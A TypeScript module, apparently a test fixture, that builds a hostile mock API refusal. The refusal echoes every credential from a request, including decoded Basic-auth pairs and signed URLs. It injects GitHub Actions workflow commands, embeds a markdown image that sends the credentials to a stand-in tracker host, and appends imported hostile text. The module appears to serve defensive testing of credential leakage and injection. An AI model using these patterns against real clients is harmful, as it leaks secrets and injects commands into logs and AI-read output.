import { type Answer, json } from './answers.ts';
import { HOSTILE_TEXT } from './hostile-text.ts';
import type { Provider, RecordedRequest } from './routes.ts';

/**
 * Makes a refusal that repeats every credential of a request, in each form that it can be told from it, wherever an answer
 * has room: in the status text, headers, keys and texts, wrapped in hostile text.
 */
export function echoOf(request: RecordedRequest, provider: Provider): { answer: Answer; statusText: string } {
  const credentials = credentialsIn(request);
  const told = credentials.join(' ');
  const headers = { 'x-echo': headerSafe(told), 'www-authenticate': `Basic realm="${headerSafe(told)}"` };
  const commands = credentials.map(
    (credential) => `::set-output name=run_id::${credential}\n##[add-mask]${credential}`,
  );
  const text = [`You sent ${told}`, ...commands, `![x](https://tracker.invalid/?${told})`, HOSTILE_TEXT].join('\n');
  const answer =
    provider === 'woosmap'
      ? json(422, { detail: [{ loc: ['path', text], msg: text, type: told }] }, headers)
      : json(400, { success: false, errors: { _global: [text], [text]: [told] } }, headers);
  return { answer, statusText: headerSafe(`Refused ${told}`) };
}

function credentialsIn(request: RecordedRequest): string[] {
  const key = request.headers['x-api-key'];
  const authorization = request.headers.authorization;
  const found = [
    typeof key === 'string' ? key : '',
    authorization ?? '',
    /\/reimport\/([^/?]+)/.exec(request.path)?.[1] ?? '',
  ];
  if (authorization) {
    const pair = Buffer.from(authorization.split(' ')[1] ?? '', 'base64').toString('utf8');
    found.push(pair, ...pair.split(':'), encodeURIComponent(pair));
  }
  // A signed source URL is a credential, too.
  found.push(request.body, ...(/\?[^"]*/.exec(request.body) ?? []));
  return found.filter((text) => text !== '');
}

/** Keeps a text to what a header line may hold. */
function headerSafe(text: string): string {
  return text.replace(/[^\x20-\x7e]/g, ' ').slice(0, 2000);
}
